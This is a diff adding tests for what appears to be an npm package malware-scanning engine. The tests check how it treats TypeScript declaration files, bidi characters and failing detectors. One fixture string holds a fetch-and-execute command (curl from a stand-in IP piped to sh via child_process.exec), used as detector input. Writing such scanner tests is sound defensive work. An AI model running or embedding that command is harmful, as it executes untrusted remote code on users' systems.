@@ -1,0 +1,85 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { packageTgz } from '../../test/helpers/tarball.js';
+import { DETECTORS } from '../detectors/index.js';
+import { analyzePackage, isDeclarationFile } from './engine.js';
+import type { Detector } from './kit.js';
+
+const SHELL = "require('child_process').exec('curl -s http://203.0.113.9/x | sh');\n";
+const analyze = (files: Record<string, string>, detectors: readonly Detector[] = DETECTORS) =>
+  analyzePackage({ name: 'p', version: '1.0.0', tarball: packageTgz(files) }, { detectors });
+const types = async (files: Record<string, string>) =>
+  new Set((await analyze(files)).alerts.map((a) => a.type));
+
+describe('engine', () => {
+  it('names declaration files as TypeScript does', () => {
+    for (const p of ['index.d.ts', 'a/b.d.mts', 'c.d.cts', 'styles.d.css.ts'])
+      assert.equal(isDeclarationFile(p), true, p);
+    for (const p of ['index.ts', 'd.ts', 'a.dts', 'index.js', 'x.d.js'])
+      assert.equal(isDeclarationFile(p), false, p);
+  });
+
+  it('treats declaration files as types until something loads one at run time', async () => {
+    const manifest = '{"name":"p","version":"1.0.0","types":"types/index.d.ts"}';
+    // Code in a declaration file that nothing loads: no module loader reaches it.
+    const idle = await types({ 'package.json': manifest, 'types/index.d.ts': SHELL });
+    assert.equal(idle.has('shellAccess'), false);
+    // Loaded by a module specifier, named by a string (a computed require), or an entry point.
+    const loaders: Record<string, string>[] = [
+      { 'index.js': "require('./types/index.d.ts');\n" },
+      {
+        'index.js': "const f = './types/' + 'index.d.ts'; const m = ['x', './types/index.d.ts'];\n",
+      },
+      { 'package.json': '{"name":"p","version":"1.0.0","main":"types/index.d.ts"}' },
+      {
+        'package.json':
+          '{"name":"p","version":"1.0.0","exports":{".":{"default":"./types/index.d.ts"}}}',
+      },
+    ];
+    for (const extra of loaders) {
+      const got = await types({ 'package.json': manifest, 'types/index.d.ts': SHELL, ...extra });
+      assert.equal(got.has('shellAccess'), true, JSON.stringify(extra));
+    }
+    // The `types` conditions of exports are for the compiler.
+    const typed = await types({
+      'package.json':
+        '{"name":"p","version":"1.0.0","exports":{".":{"types":"./types/index.d.ts","default":"./index.js"}}}',
+      'types/index.d.ts': SHELL,
+      'index.js': 'module.exports = 1;\n',
+    });
+    assert.equal(typed.has('shellAccess'), false);
+  });
+
+  it('still runs the text detectors on declaration files', async () => {
+    const got = await types({
+      'package.json': '{"name":"p","version":"1.0.0"}',
+      'index.d.ts': 'export declare const ok: "\u202eevil";\n',
+    });
+    assert.equal(got.has('bidi'), true);
+  });
+
+  it('records a throwing detector against its file and goes on', async () => {
+    const broken: Detector = {
+      meta: {
+        id: 'usesEval',
+        version: 1,
+        category: 'supplyChainRisk',
+        severity: 'middle',
+        title: 'Throws',
+        description: 'test double that throws',
+      },
+      js() {
+        throw new Error('boom');
+      },
+    };
+    const result = await analyze({ 'a.js': 'eval(x);\n', 'b.js': SHELL }, [broken, ...DETECTORS]);
+    assert.deepEqual(
+      result.failures.map((f) => [f.detector, f.file, f.message]),
+      [
+        ['usesEval', 'a.js', 'boom'],
+        ['usesEval', 'b.js', 'boom'],
+      ],
+    );
+    assert.ok(result.alerts.some((a) => a.type === 'shellAccess'));
+  });
+});
